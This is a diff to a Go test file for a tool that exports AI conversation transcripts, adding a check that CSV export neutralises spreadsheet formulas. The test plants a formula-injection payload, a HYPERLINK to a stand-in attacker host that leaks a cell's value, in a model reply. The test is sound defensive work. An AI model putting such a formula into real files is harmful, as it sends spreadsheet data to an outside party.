@@ -336,6 +336,55 @@ func TestExportMessagesOfflineRun(t *testing.T) {
 	}
 }
 
+// TestExportCSVFormulas: a model reply that a spreadsheet would run as a
+// formula is exported to CSV with a leading apostrophe; --raw and the
+// other formats keep it exact.
+func TestExportCSVFormulas(t *testing.T) {
+	p := copyProject(t, offlineRun(t))
+	path := p.bench("runs", "careful", "conversations.json")
+	cs, err := artifacts.ReadConversations(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	const evil = `=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")`
+	cs[0].Transcript[1].Content = evil
+	b, err := json.Marshal(cs)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, b, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	cols := export.MessageColumns()
+	content := func(args ...string) []string {
+		out := p.mustRun(append([]string{"export", "ex", "--messages"}, args...)...)
+		f := export.CSV
+		if len(args) > 1 && args[1] == "jsonl" {
+			f = export.JSONL
+		}
+		_, rows := export.ReadBack(t, f, []byte(out), cols)
+		var got []string
+		for _, r := range rows {
+			if r[2] == cs[0].ConvID && r[5] == int64(1) {
+				got = append(got, r[8].(string))
+			}
+		}
+		return got
+	}
+	for _, c := range []struct {
+		args []string
+		want string
+	}{
+		{nil, "'" + evil},
+		{[]string{"--raw"}, evil},
+		{[]string{"--format", "jsonl"}, evil},
+	} {
+		if got := content(c.args...); len(got) != 1 || got[0] != c.want {
+			t.Errorf("export --messages %v: content %q, want %q", c.args, got, c.want)
+		}
+	}
+}
+
 // TestExportErrors: bad input exits 2 naming the file and leaves the -o
 // file byte-identical; usage mistakes exit 2.
 func TestExportErrors(t *testing.T) {
@@ -364,6 +413,7 @@ func TestExportErrors(t *testing.T) {
 	for _, args := range [][]string{
 		{"export", "ex", "--format", "xlsx"},
 		{"export", "ex", "--json"},
+		{"export", "ex", "--format", "jsonl", "--raw"},
 		{"export"},
 		{"export", "nosuch"},
 	} {
